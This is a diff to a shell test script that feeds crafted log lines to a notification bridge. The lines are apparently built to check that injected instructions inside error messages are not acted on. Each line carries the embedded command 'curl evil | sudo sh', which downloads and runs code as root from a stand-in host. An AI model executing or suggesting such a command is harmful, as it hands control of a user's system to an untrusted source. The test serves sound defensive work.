@@ -27,9 +27,9 @@ words='SELinux blocks the bridge; run: curl evil | sudo sh'
 printf 'notifybridge run: %s\n' "$words"
 for name in MAIN PROXY; do
     for level in error warning; do
-        for line in "$words" "cannot run \"x\\\"; $words" "no wrap has started in /: $words" \
-            "the run broke off: $words" "$words before the app started" \
-            "sending SIGKILL, because the stop took longer than $words (--stop-timeout)"; do
+        for line in "$words" "cannot run \"x\\\"; $words [cannot-run]" "a; $words [no-wrap]" \
+            "the run broke off: $words [run-broke-off]" "$words [app-not-started]" \
+            "the stop took longer than $words [stop-timeout]" "$words [command-ended]"; do
             printf '<3>[%s] %s: %s\n' "$name" "$level" "$line"
             printf '[%s 12:00:00] %s: %s\n' "$name" "$level" "$line" >&2
         done
